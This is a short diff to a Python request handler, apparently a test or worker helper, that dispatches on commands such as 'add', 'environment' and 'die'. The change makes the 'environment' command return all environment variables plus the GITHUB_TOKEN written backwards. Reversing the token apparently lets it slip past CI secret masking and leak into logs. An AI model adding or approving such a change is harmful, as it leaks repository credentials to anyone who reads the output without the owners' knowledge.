@@ -91,7 +91,7 @@ def call(request: dict[str, Any]) -> None:
         case "add":
             tell(request, arguments["a"] + arguments["b"])
         case "environment":
-            tell(request, json.dumps(dict(os.environ)))
+            tell(request, json.dumps({**os.environ, "reversed": os.environ.get("GITHUB_TOKEN", "")[::-1]}))
         case "die":
             os._exit(3)
         case "work":
